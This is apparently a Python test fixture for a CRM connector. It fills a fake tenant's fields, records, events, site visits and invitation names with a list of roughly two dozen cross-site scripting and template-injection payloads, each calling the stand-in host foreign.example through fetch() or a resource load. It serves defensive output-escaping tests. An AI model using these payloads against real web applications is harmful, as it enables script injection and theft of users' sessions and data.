"""A tenant whose CRM is full of texts that attack whoever shows them: every field that a page can show."""

from __future__ import annotations

import json
from collections.abc import Sequence
from dataclasses import replace

from connector.records import (
    Account,
    Company,
    EngagementEvent,
    FieldDefinition,
    FieldRole,
    FieldType,
    Listener,
    Page,
    Record,
    WriteOutcome,
    WriteResult,
)
from connector.services.tracking import collecting, sites
from tests.fakecrm import FakeAccount
from tests.unit.web import hostile_words
from tests.unit.web.site import Browser, Site
from tests.world import NOW, small_account

FOREIGN = "foreign.example"

_RUN = f"fetch('//{FOREIGN}/ran')"
PAYLOADS = (
    f"<script>{_RUN}</script>",
    f'"><script src=//{FOREIGN}/s.js></script>',
    f"'><img src=//{FOREIGN}/i onerror={_RUN}>",
    f"<svg/onload={_RUN}>",
    f'" autofocus onfocus="{_RUN}" x="',
    f"' onmouseover='{_RUN}' style='position:fixed;inset:0",
    f"javascript:{_RUN}//",
    f"</title><script>{_RUN}</script>",
    f"</textarea></select></option><script>{_RUN}</script>",
    f"--><script>{_RUN}</script><!--",
    f'<iframe srcdoc="<script>parent.{_RUN}</script>">',
    f"<iframe src=//{FOREIGN}/frame>",
    f"<link rel=stylesheet href=//{FOREIGN}/c.css>",
    f"<base href=//{FOREIGN}/>",
    f'<meta http-equiv=refresh content="0;url=//{FOREIGN}/m">',
    f"<style>*{{background:url(//{FOREIGN}/b)}}</style>",
    f"<details open ontoggle={_RUN}><summary>x</summary></details>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={_RUN}>",
    f"&lt;script&gt;{_RUN}&lt;/script&gt;",
    "{{ config }}{% for x in 1 %}{{ x }}{% endfor %}",
    f"<form action=//{FOREIGN}/f><button formaction=javascript:{_RUN}>",
    f"\u2028<scr\u0000ipt>{_RUN}</script>\u202e",
    f"<a href='javascript:{_RUN}' ping=//{FOREIGN}/p>x</a>",
    f"<object data=//{FOREIGN}/o><embed src=//{FOREIGN}/e>",
)
"""One for each way out of a text, an attribute, an element or a template. Each tells on itself by a request."""

NAMED = tuple(payload for payload in PAYLOADS if "@" not in payload and payload.isprintable() and len(payload) <= 80)
"""Those that can be a user's name."""


def account(people: int = 120) -> FakeAccount:
    """An account whose every text is a payload, and whose people convert as others do."""
    made = small_account(people)
    fields = (
        FieldDefinition("city", f"City {PAYLOADS[0]}", FieldType.CATEGORY),
        FieldDefinition("size", f"Size {PAYLOADS[2]}", FieldType.NUMBER),
        FieldDefinition("first", "First", FieldType.TEXT, role=FieldRole.FIRST_NAME, personal=True),
        FieldDefinition("title", "Title", FieldType.TEXT, role=FieldRole.JOB_TITLE),
        FieldDefinition("firm", "Firm", FieldType.TEXT, role=FieldRole.COMPANY_NAME),
        FieldDefinition("tag", f"Tag {PAYLOADS[3]}", FieldType.CATEGORY, options=dict.fromkeys(PAYLOADS, PAYLOADS[5])),
        FieldDefinition("owner", f"Owner {PAYLOADS[4]}", FieldType.TEXT, role=FieldRole.OWNER, system=True),
    )
    pages = {name: [_hostile(page) for page in read] for name, read in made.pages.items()}
    pages["people"][0] = replace(pages["people"][0], companies=tuple(map(_company, range(len(PAYLOADS)))))
    named = Account("101", f"Alpha {PAYLOADS[0]}", "https://fake.example", PAYLOADS[1])
    listening = [
        Listener(payload, payload, True, (payload,), f"javascript:{_RUN}" if at % 2 else "https://fake.example/w")
        for at, payload in enumerate(PAYLOADS)
    ]
    return FakeAccount(named, fields, pages, listening=listening)


def _company(at: int) -> Company:
    text = PAYLOADS[at]
    return Company(f"c{at}", text, f"firm{at}.com", {"motto": text}, NOW)


def _hostile(page: Page) -> Page:
    return replace(
        page,
        records=tuple(_record(record) for record in page.records),
        changes=tuple(
            replace(change, value=_of(change.record_id)) if change.name == "city" else change for change in page.changes
        ),
        events=tuple(_event(event, at) for at, event in enumerate(page.events)),
    )


def _of(record_id: str) -> str:
    return PAYLOADS[int(record_id) % len(PAYLOADS)]


def _record(record: Record) -> Record:
    text = _of(record.record_id)
    # Two of them decide, so that reasons speak of them.
    shown = ("city", "tag", "first", "title", "firm", "owner")
    values = {**record.properties, **dict.fromkeys(shown, text)}
    return replace(record, properties=values)


def _event(event: EngagementEvent, at: int) -> EngagementEvent:
    return replace(event, detail=PAYLOADS[at % len(PAYLOADS)])


def filled(site: Site) -> Browser:
    """Let the hostile account be read, trained on, scored and written, its site visited, its people enter what they
    can; return the owner's browser."""
    crm = account()
    site.world.services.apps["fakecrm"].accounts["code-1"] = crm  # type: ignore[attr-defined]
    site.world.crm = crm
    crm.refused = {
        str(1000 + at): WriteResult(str(1000 + at), WriteOutcome.GONE, payload) for at, payload in enumerate(PAYLOADS)
    }
    owner = site.signed_in()
    site.world.work()
    _visit(site)
    for name in NAMED:
        owner.press("/access", "/access/invitations", name=name, role="viewer")
    owner.press("/publication", f"/publication/{site.connection('101').id}/listeners")
    hostile_words.enter(site.world.services, site.tenant_of("101"), PAYLOADS, NAMED)
    site.world.work()
    return owner


def _visit(site: Site) -> None:
    services, tenant = site.world.services, site.tenant_of("101")
    made = sites.add(services, tenant, "Shop <script>x</script>", ["https://shop.example.com"])
    at = services.clock.now().isoformat()
    for start, payload in enumerate(PAYLOADS):
        email = f"p{start}@firm{start % 60}.com"
        events: Sequence[dict[str, object]] = [
            {"id": f"v{start:07}", "type": "page", "path": f"/{payload}", "referrer": payload},
            {"id": f"w{start:07}", "type": "event", "name": payload},
            {"id": f"x{start:07}", "type": "form", "name": payload},
        ]
        batch = {"events": [{**event, "email": email, "at": at, "utm": {"campaign": payload}} for event in events]}
        collecting.from_server(services, made.site, json.dumps(batch).encode())
